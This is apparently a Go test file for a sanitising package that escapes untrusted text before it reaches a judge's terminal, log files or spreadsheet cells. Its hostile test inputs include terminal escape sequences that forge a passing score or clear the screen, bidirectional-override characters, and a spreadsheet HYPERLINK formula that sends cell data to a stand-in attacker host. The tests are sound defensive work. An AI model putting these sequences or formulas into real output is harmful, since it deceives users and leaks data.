package untrusted

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// Hostile is a string with one of everything the package escapes: a screen clear and a forged
// green score (CSI), a window title (OSC), a C1 control (CSI in one byte), a right-to-left
// override and isolate, a carriage return that rewrites a line, a bell, DEL and a byte that is
// not UTF-8.
const hostile = "\x1b[2J\x1b[H\x1b[32mscore 100/100\x1b[0m\x1b]0;owned\a\u009b2J\u202eevil\u2066x\u2069\rAC\x7f\xff"

func TestLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{"张伟", "张伟"},
		{"eve\n   1  mallory  100", `eve\n   1  mallory  100`},
		{"x\x1b[1A\x1b[2Koscar", `x\x1b[1A\x1b[2Koscar`},
		{"trudy\u202eevil", `trudy\u202eevil`},
		{"c1\u0085\u009b", `c1\u0085\u009b`},
		{"lrm\u200e\u200f\u061c", `lrm\u200e\u200f\u061c`},
		{"back\\slash", `back\\slash`},
		{"bad\xffbyte", `bad\xffbyte`},
		{"tab\there", `tab\there`},
		{"cr\r\n", `cr\r\n`},
	}
	for _, tc := range tests {
		if got := Line(tc.in); got != tc.want {
			t.Errorf("Line(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestLines(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a.c:1:2: error: #error\n  1 | #error \"x\"\n", "a.c:1:2: error: #error\n  1 | #error \"x\"\n"},
		{"error: \x1b[2J\x1b[32mscore 100/100\r\n\tnext", "error: \\x1b[2J\\x1b[32mscore 100/100\n\tnext"},
		{"over\rwrite", `over\rwrite`},
		{"\u202eevil\xfe", `\u202eevil\xfe`},
	}
	for _, tc := range tests {
		if got := Lines(tc.in); got != tc.want {
			t.Errorf("Lines(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", `\tx`}, {"\rx", `\rx`},
		{"", ""}, {"a=b", "a=b"},
		{"eve\x1b[31m", `eve\x1b[31m`},
	}
	for _, tc := range tests {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	tests := []struct {
		name string
		kind Kind
		in   string
		want string
	}{
		{"plain", Terminal, "score 45/100\n\tok 张伟\n", "score 45/100\n\tok 张伟\n"},
		{"own colours", Terminal, "\x1b[1mscore\x1b[0m \x1b[32mAC\x1b[0m \x1b[7mx\x1b[27m", "\x1b[1mscore\x1b[0m \x1b[32mAC\x1b[0m \x1b[7mx\x1b[27m"},
		{"progress", Terminal, "\r\x1b[Kjudging 1/2", "\r\x1b[Kjudging 1/2"},
		{"a redraw inside", Terminal, "x\r\x1b[Kscore 100", `x\x0d\x1b[Kscore 100`},
		{"screen clear", Terminal, "\x1b[2J\x1b[Hscore", `\x1b[2J\x1b[Hscore`},
		{"title", Terminal, "\x1b]0;owned\a", `\x1b]0;owned\x07`},
		{"C1 and bidi", Terminal, "\u009b2J\u202eevil\u2069", `\u009b2J\u202eevil\u2069`},
		{"invalid", Terminal, "a\xffb", `a\xffb`},
		{"file keeps no colour", File, "\x1b[32mAC\r\n", `\x1b[32mAC\x0d` + "\n"},
	}
	for _, tc := range tests {
		var b bytes.Buffer
		n, err := NewWriter(&b, tc.kind).Write([]byte(tc.in))
		if err != nil || n != len(tc.in) {
			t.Errorf("%s: got (%d, %v), want (%d, nil)", tc.name, n, err, len(tc.in))
		}
		if b.String() != tc.want {
			t.Errorf("%s: got %q, want %q", tc.name, b.String(), tc.want)
		}
	}
}

// TestWriterKeepsJSON writes JSON holding every hidden character through a File writer: the
// JSON stays valid, decodes to the same text, and carries none of them raw.
func TestWriterKeepsJSON(t *testing.T) {
	text := hostile + "\u0085\u2028"
	data, err := json.Marshal(map[string]string{"message": text})
	if err != nil {
		t.Fatal(err)
	}
	filtered := Filter(data, File)
	var back map[string]string
	if err := json.Unmarshal(filtered, &back); err != nil {
		t.Fatalf("the filtered JSON is not valid: %v: %s", err, filtered)
	}
	if want := strings.ToValidUTF8(text, "\ufffd"); back["message"] != want {
		t.Errorf("got %q, want %q", back["message"], want)
	}
	if hasHidden(string(filtered)) {
		t.Errorf("a hidden character is left raw: %q", filtered)
	}
}

func hasHidden(s string) bool {
	if !utf8.ValidString(s) {
		return true
	}
	for _, r := range s {
		if r != '\n' && r != '\t' && Hidden(r) {
			return true
		}
	}
	return false
}

func FuzzWriter(f *testing.F) {
	f.Add([]byte(hostile), false)
	f.Add([]byte("\r\x1b[K\x1b[32mok\x1b[0m"), true)
	f.Fuzz(func(t *testing.T, data []byte, file bool) {
		kind := Terminal
		if file {
			kind = File
		}
		out := string(Filter(data, kind))
		// What is left raw is the judge's own sequences, on a terminal.
		rest := out
		if kind == Terminal {
			rest = strings.TrimPrefix(rest, redraw)
			for _, s := range sgr {
				rest = strings.ReplaceAll(rest, s, "")
			}
		}
		if hasHidden(rest) {
			t.Errorf("Filter(%q): %q has a hidden character", data, out)
		}
		for _, s := range []string{Line(string(data)), Lines(string(data))} {
			if strings.ContainsRune(strings.ReplaceAll(strings.ReplaceAll(s, "\n", ""), "\t", ""), 0x1b) || hasHidden(strings.NewReplacer("\n", "", "\t", "").Replace(s)) {
				t.Errorf("%q keeps a hidden character", s)
			}
		}
	})
}
